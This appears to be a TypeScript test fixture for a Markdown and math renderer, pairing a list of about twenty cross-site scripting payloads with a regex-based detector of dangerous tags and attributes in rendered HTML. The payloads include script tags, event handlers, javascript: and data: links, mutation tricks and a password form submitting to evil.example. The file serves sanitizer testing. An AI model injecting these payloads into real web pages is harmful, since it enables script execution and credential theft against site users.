/** Ways in which a text has carried a script into other people's pages. */
export const attacks: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a handler', '<img src=x onerror=alert(1)>'],
  ['a picture', '![x" onerror="alert(1)](https://example.org/a.png)'],
  ['a link', '[x](javascript:alert(1))'],
  ['a link in disguise', '[x](java\nscript:alert(1)) [y](&#106;avascript:alert(1)) [z](JaVaScRiPt:alert(1))'],
  ['a data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a quoted link', '<a href="javascript:alert(1)">x</a> <https://example.org/" onmouseover="alert(1)>'],
  ['a reference', '[x][1]\n\n[1]: javascript:alert(1)'],
  ['a drawing', '<svg onload=alert(1)><animate onbegin=alert(1)>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object>'],
  ['a form', '<form action="https://evil.example"><input name=password><button>ok</button></form>'],
  ['a style', '<style>*{display:none}</style><p style="position:fixed;inset:0">x</p>'],
  [
    'a formula',
    '$\\href{javascript:alert(1)}{x}$ $\\htmlData{onclick=alert(1)}{x}$ $\\url{javascript:alert(1)}$',
  ],
  ['a formula with markup', '$\\text{<img src=x onerror=alert(1)>}$ $</math><script>alert(1)</script>$'],
  ['a broken formula', '$\\frac{<script>alert(1)</script>$ $$\\begin{x}"onclick=alert(1)$$'],
  ['a language', '```"><script>alert(1)</script>\nx\n```'],
  ['code', '```html\n</code></pre><script>alert(1)</script>\n```'],
  [
    'a mutation',
    '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['a table', '|a|\n|-|\n|<img src=x onerror=alert(1)>|'],
  ['a footnote', 'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y'],
]

const element = /<([a-z][\w-]*)((?:\s+[^\s=>]+(?:=(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/gi
const attribute = /\s([^\s=>]+)(?:=(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g
const dangerous =
  /^(script|style|iframe|object|embed|svg|form|base|meta|link|template|foreignobject|animate)$/i

/** What a browser would run, load or submit from this HTML. */
export function harms(html: string): string[] {
  return [...html.matchAll(element)].flatMap(([whole, name = '', attributes = '']) => {
    const isBad = [...attributes.matchAll(attribute)].some(
      ([, key = '', a, b, c]) =>
        /^(on|srcdoc|formaction)/i.test(key) ||
        // The renderer's own red for a formula that it cannot read.
        (/^style$/i.test(key) && a !== 'color:#cc0000') ||
        (/^(href|src|xlink:href)$/i.test(key) &&
          /^[\s\0]*(javascript|vbscript|data:text)/i.test(decoded(a ?? b ?? c ?? ''))),
    )
    return dangerous.test(name) || isBad ? [whole] : []
  })
}

const decoded = (text: string): string =>
  text
    .replace(/&#x([\da-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, number: string) => String.fromCodePoint(Number(number)))
    .replace(/[\t\n\r]|&Tab;|&NewLine;/g, '')
